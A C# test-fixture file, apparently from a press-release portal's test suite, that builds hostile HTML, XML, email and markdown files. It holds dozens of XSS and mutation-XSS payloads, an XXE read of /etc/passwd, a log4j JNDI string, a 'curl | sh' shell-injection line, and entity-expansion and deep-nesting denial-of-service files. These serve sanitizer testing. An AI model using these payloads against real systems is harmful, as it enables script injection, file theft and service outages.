namespace ImmunoGenPortal.Hostile.Corpus;

/// <summary>Markup that runs, loads, leads away or nests, in pages and in plain texts whose words are shown again.</summary>
internal static class MarkupFiles
{
    private const string Ran = "window.payload=1;fetch('http://127.0.0.1:9/ran')";

    /// <summary>Each is put into headline and body of a page and of a text; were it to become markup again, it would run or be seen.</summary>
    private static readonly (string Name, string Markup)[] Payloads =
    [
        ("script", Told.Script),
        ("script-case", $"<ScRiPt data-payload>{Ran}</sCrIpT>"),
        ("script-in-script", $"<scr<script>ipt data-payload>{Ran}</scr</script>ipt>"),
        ("script-entities", $"&lt;script data-payload&gt;{Ran}&lt;/script&gt;"),
        ("script-entities-twice", $"&amp;lt;script data-payload&amp;gt;{Ran}&amp;lt;/script&amp;gt;"),
        ("script-numbers", "&#60;script data-payload&#62;window.payload=1&#x3c;/script&#x3e;"),
        ("script-numbers-open", "&#0000060script data-payload&#0000062window.payload=1&#x3c/script&#x3e"),
        ("img", $"<img data-payload src=x onerror=\"{Ran}\">"),
        ("img-outside", "<img data-payload src=\"http://127.0.0.1:9/ran.png\">"),
        ("img-in-entities", $"&lt;img data-payload src=x onerror=\"{Ran}\"&gt;"),
        ("svg", $"<svg data-payload onload=\"{Ran}\"><animate onbegin=\"{Ran}\" attributeName=x></svg>"),
        ("svg-script", $"<svg data-payload><script>{Ran}</script><use href=\"data:image/svg+xml,x#x\"/></svg>"),
        ("svg-foreign", $"<svg><foreignObject><iframe data-payload srcdoc=\"&lt;script&gt;{Ran}&lt;/script&gt;\"></iframe></foreignObject></svg>"),
        ("math", $"<math><mtext><table><mglyph><style><!--</style><img data-payload title=\"--&gt;&lt;img src=1 onerror={Ran}&gt;\">"),
        ("mutation-noscript", $"<noscript><p title=\"</noscript><img data-payload src=x onerror={Ran}>\">"),
        ("mutation-textarea", $"<textarea><img title=\"</textarea><img data-payload src=x onerror={Ran}>\">"),
        ("mutation-title", $"<title><a title=\"</title><img data-payload src=x onerror={Ran}>\">"),
        ("mutation-comment", $"<!--><img data-payload src=x onerror={Ran}>-->"),
        ("mutation-comment-end", $"<!-- --!><img data-payload src=x onerror={Ran}>"),
        ("mutation-cdata", $"<![CDATA[><img data-payload src=x onerror={Ran}>]]>"),
        ("mutation-form", $"<form><math><mtext></form><form><mglyph><style></math><img data-payload src=x onerror={Ran}>"),
        ("style", "<style data-payload>body{display:none;background:url(http://127.0.0.1:9/ran)}@import 'http://127.0.0.1:9/ran.css';</style>"),
        ("style-attribute", "<p data-payload style=\"position:fixed;inset:0;background:url(http://127.0.0.1:9/ran)\">All of it</p>"),
        ("link", "<link data-payload rel=stylesheet href=http://127.0.0.1:9/ran.css><link rel=preload as=script href=http://127.0.0.1:9/ran.js><link rel=dns-prefetch href=//ran.example>"),
        ("iframe", "<iframe data-payload src=\"javascript:parent.payload=1\"></iframe><iframe src=http://127.0.0.1:9/ran></iframe>"),
        ("object", "<object data-payload data=\"http://127.0.0.1:9/ran\"></object><embed data-payload src=\"javascript:alert(1)\">"),
        ("meta-refresh", "<meta data-payload http-equiv=refresh content=\"0;url=http://127.0.0.1:9/ran\"><meta http-equiv=Content-Security-Policy content=\"default-src *\">"),
        ("base", "<base data-payload href=\"http://127.0.0.1:9/\">"),
        ("form", "<form data-payload action=\"http://127.0.0.1:9/ran\"><input name=q autofocus onfocus=\"window.payload=1\"><button>Sign in</button></form>"),
        ("link-javascript", "<a data-payload href=\"javascript:window.payload=1\">Full text</a> [Full text](javascript:window.payload=1) [x](http://127.0.0.1:9/ran)"),
        ("link-javascript-odd", "<a data-payload href=\" \u0001java\tscript\n:window.payload=1\">x</a> <a href=&#106;avascript:window.payload=1>y</a> <a href=data:text/html,%3Cscript%3Ealert(1)%3C/script%3E>z</a> <a href=vbscript:x>v</a>"),
        ("attribute-break", "\" autofocus onfocus=\"window.payload=1\" data-payload=\" ' onmouseover='window.payload=1' data-payload='"),
        ("textarea-break", "</textarea></title></script></style></option></select></svg><img data-payload src=x onerror=window.payload=1>"),
        ("json-break", "</script><script data-payload>window.payload=1</script>\\u003c\u2028\u2029\"}]};window.payload=1;//"),
        ("template", "{{constructor.constructor('window.payload=1')()}} ${window.payload=1} <%= window.payload=1 %> #{7*7} @(window.payload=1) *{7*7}"),
        ("details", "<details data-payload open ontoggle=\"window.payload=1\"><video><source onerror=\"window.payload=1\"></video></details><marquee onstart=window.payload=1>x</marquee>"),
        ("xml-entity", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"http://127.0.0.1:9/ran\"><!ENTITY f SYSTEM \"file:///etc/passwd\">]><x data-payload>&e;&f;</x>"),
        ("ssi", "<!--#exec cmd=\"id\" --><!--#include virtual=\"/etc/passwd\" --><?php phpinfo(); ?> <% Response.Write(1) %> @{ System.IO.File.Delete(\"/x\"); }"),
        ("log4j", "${jndi:ldap://127.0.0.1:9/ran} %n%n%s%s%x {0} {1:D} {@object} {$x}"),
        ("shell", "; curl http://127.0.0.1:9/ran | sh $(curl http://127.0.0.1:9/ran) `curl http://127.0.0.1:9/ran` && ping -c1 ran.example"),
        ("custom-elements", "<x-y data-payload is=z></x-y><slot name=x></slot><template shadowrootmode=open><script>window.payload=1</script></template>"),
        ("unclosed", "<img data-payload src=x onerror=window.payload=1 "),
        ("null-in-tag", "<scr\0ipt data-payload>window.payload=1</scr\0ipt>"),
        ("svg-style-mutation", $"<svg></p><style><a id=\"</style><img data-payload src=1 onerror={Ran}>\">"),
        ("math-annotation", $"<math><annotation-xml encoding=\"text/html\"><style><img data-payload src=x onerror={Ran}></style></annotation-xml></math>"),
        ("select-mutation", $"<select><template><style><!--</style><a rel=\"--></style></template></select><img data-payload src=x onerror={Ran}>\">"),
        ("table-caption", $"<table><caption><svg><title><table><caption></caption></table><style><img data-payload src=x onerror={Ran}>"),
        ("xlink", "<svg><a xlink:href=\"javascript:window.payload=1\" data-payload><text>x</text></a><use xlink:href=\"//127.0.0.1:9/ran#x\"/><image href=\"//127.0.0.1:9/ran\"/></svg>"),
        ("animate-href", "<svg><a data-payload><animate attributeName=href values=javascript:window.payload=1 /><text>x</text></a></svg>"),
        ("srcset", "<img data-payload srcset=\"//127.0.0.1:9/ran 1x\"><picture><source srcset=//127.0.0.1:9/ran></picture><video poster=//127.0.0.1:9/ran src=//127.0.0.1:9/ran autoplay></video><audio src=//127.0.0.1:9/ran autoplay>"),
        ("body-handlers", "<body data-payload onload=window.payload=1 onpageshow=window.payload=1 background=//127.0.0.1:9/ran><frameset onload=window.payload=1>"),
        ("popover", "<button data-payload popovertarget=x>x</button><div popover id=x onbeforetoggle=window.payload=1>x</div><dialog open onclose=window.payload=1>x</dialog>"),
        ("animation", "<style>@keyframes x{}</style><p data-payload style=\"animation-name:x\" onanimationstart=\"window.payload=1\" onwebkitanimationend=\"window.payload=1\">x</p>"),
        ("script-types", "<script data-payload type=module>window.payload=1</script><script type=importmap>{\"imports\":{}}</script><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//127.0.0.1:9/ran\"]}]}</script>"),
        ("clobber", "<form data-payload id=document name=body><input name=cookie><img name=getElementById><a id=location href=//127.0.0.1:9/ran></a><a id=defaultView></a></form>"),
        ("dangling", "<img data-payload src='http://127.0.0.1:9/ran?"),
        ("meta-early", "<meta data-payload charset=utf-7><meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content=x=y><link rel=manifest href=//127.0.0.1:9/ran><link rel=modulepreload href=//127.0.0.1:9/ran>"),
        ("ping", "<a data-payload href=/ ping=//127.0.0.1:9/ran target=_blank rel=opener download=x>x</a><area href=javascript:window.payload=1><button formaction=javascript:window.payload=1>x</button><isindex action=javascript:window.payload=1>"),
        ("iframe-doc", "<iframe data-payload srcdoc='<script>parent.payload=1</script>' sandbox=allow-scripts></iframe><portal src=//127.0.0.1:9/ran></portal><applet code=x></applet><embed src=data:image/svg+xml;base64,PHN2Zz4=>"),
        ("slash-quotes", "<img/data-payload/src=x/onerror=window.payload=1//><img\u000Csrc=x\u000Conerror=window.payload=1><img src=`x`onerror=window.payload=1><IMG \"\"\"><SCRIPT>window.payload=1</SCRIPT>\">"),
        ("entity-handlers", "<img data-payload src=x onerror=&#119;&#105;ndow.payload&equals;1><a href=\"java&Tab;script&colon;window.payload=1\">x</a><a href=\"&#1;javascript:window.payload=1\">y</a>"),
        ("bidi-markup", "\u202E<script data-payload>\u202Cwindow.payload=1\u2066</script>\u2069"),
        ("latex-excel", "\\input{/etc/passwd} \\href{javascript:window.payload=1}{x} =WEBSERVICE(\"http://127.0.0.1:9/ran\") @import url(//127.0.0.1:9/ran); expression(window.payload=1)"),
        ("fullwidth", "＜script data-payload＞window.payload=1＜/script＞ ‹script› ⟨script⟩"),
    ];

    public static IEnumerable<HostileFile> All() => [.. Injected(), .. Deep(), .. Odd()];

    private static IEnumerable<HostileFile> Injected()
    {
        var number = 200;
        foreach (var (name, markup) in Payloads)
        {
            yield return HostileFile.Of($"page-{name}.html", Told.Page(number++, $"Amgen {markup} Takes License", $"{markup} Amgen will pay $4 million {markup} to ImmunoGen."));
            yield return HostileFile.Of($"text-{name}.txt", Told.Release(number++, $"Amgen {markup} Takes License", $"{markup} Amgen will pay $4 million {markup} to ImmunoGen.\n\nCONTACT: {markup}, jane@example.com{markup}"));
        }
    }

    private static IEnumerable<HostileFile> Deep()
    {
        foreach (var tag in new[] { "div", "b", "table><tr><td", "ul><li", "blockquote", "svg", "font", "a", "select", "nav", "form", "template", "sup", "q", "math><mi", "pre", "object" })
        {
            yield return HostileFile.Large($"deep-200000-{tag[..Math.Min(tag.Length, 5)].TrimEnd('>')}.html", () => $"<html><body><p>Deep Nesting of {tag.Replace('>', ' ').Replace('<', ' ')}</p>" + Told.Repeat($"<{tag}>", 200_000) + "deep inside");
        }

        yield return HostileFile.Large("closed-200000.html", () => "<html><body><p>Nothing but Ends</p>" + Told.Repeat("</div></b></p></table>", 50_000));
        yield return HostileFile.Large("formatting-crossed.html", () => "<html><body><p>Crossed Formatting</p>" + Told.Repeat("<b><i><p></b></i><a>", 40_000));
        yield return HostileFile.Large("attributes-200000.html", () => "<html><body><p>Many Attributes</p><div " + string.Concat(Enumerable.Range(0, 200_000).Select(i => $"a{i}=b ")) + ">inside</div>");
        yield return HostileFile.Large("attribute-huge.html", () => "<html><body><p>One Attribute</p><div style=\"" + new string(' ', 5_000_000) + "display:none\">inside</div>");
        yield return HostileFile.Large("comment-huge.html", () => "<html><body><p>One Comment</p><!--" + Told.Repeat("<--!-", 1_000_000) + "-->after");
        yield return HostileFile.Large("table-wide.html", () => "<html><body><p>A Wide Table</p><table><tr>" + Told.Repeat("<td>x", 300_000) + "</table>");
        yield return HostileFile.Large("table-long.html", () => "<html><body><p>A Long Table</p><table>" + Told.Repeat("<tr><td>$1<td>(2)<td>3%", 80_000) + "</table>");
        yield return HostileFile.Large("tables-nested-filled.html", () => "<html><body><p>Filled Tables</p>" + Told.Repeat("<table><tr><td>a</td><td>b<br>c</td></tr><tr><td>", 30_000) + "end");
        yield return HostileFile.Large("base64-image.html", () => Told.Page(400, "A Picture of Nine Megabytes", $"<img src=\"data:image/png;base64,{new string('A', 9_000_000)}\">"));
    }

    private static IEnumerable<HostileFile> Odd()
    {
        var bomb = string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY l{i} \"{Told.Repeat($"&l{i - 1};", 10)}\">"));
        yield return HostileFile.Of("billion-laughs.xml", $"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY l0 \"lol\">{bomb}]><x>A Headline of Laughs &l9;</x>");
        yield return HostileFile.Of("billion-laughs.html", $"<!DOCTYPE html [<!ENTITY l0 \"lol\">{bomb}]><html><p>Laughing &l9; words</p></html>");
        yield return HostileFile.Of("quadratic-entity.xml", $"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"{new string('a', 50_000)}\">]><x>{Told.Repeat("&a;", 50_000)}</x>");
        yield return HostileFile.Large("entities-many.html", () => "<html><p>Entities</p>" + Told.Repeat("&CounterClockwiseContourIntegral;&notin;&ampamp;&#x110000;&#xD800;&#0;&#99999999999999999999;", 20_000));
        yield return HostileFile.Of("entity-long.html", $"<html><p>Long Entity &{new string('a', 500_000)};</p><p>&#{new string('9', 500_000)};</p></html>");
        yield return HostileFile.Of("plaintext.html", Told.Page(401, "Plaintext", "<plaintext>" + Told.Script));
        yield return HostileFile.Of("frameset.html", "<html><frameset cols=*><frame src=http://127.0.0.1:9/ran></frameset></html>");
        yield return HostileFile.Of("xhtml-broken.html", "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><p>Broken & XHTML <br/<br/></p <p>Amgen</body>");
        yield return HostileFile.Of("only-script.html", $"<html><body>{Told.Script}</body></html>");
        yield return HostileFile.Of("hidden-text.html", Told.Page(402, "Hidden", "<div hidden>Amgen will pay $9 billion.</div><div style='DISPLAY : none'>Amgen will pay $8 billion.</div>"));
        yield return HostileFile.Of("eml.eml", "From: a@example.com\r\nSubject: =?utf-8?B?PHNjcmlwdD4=?=\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n" + Told.Page(403, "In a Mail") + "\r\n--x--");
        yield return HostileFile.Of("mhtml.mht", "MIME-Version: 1.0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<html><body><p>=41mgen =\r\nTakes</p>" + Told.Script);
        yield return HostileFile.Of("markdown.md", Told.Release(404, "# **Bold** [x](javascript:window.payload=1)", Told.Repeat("[", 20_000) + Told.Repeat("](x)", 20_000) + "![a](http://127.0.0.1:9/ran.png)"));
        yield return HostileFile.Of("svg.svg", $"<svg xmlns=\"http://www.w3.org/2000/svg\"><text>A Headline in a Drawing</text><script>{Ran}</script></svg>");
    }
}
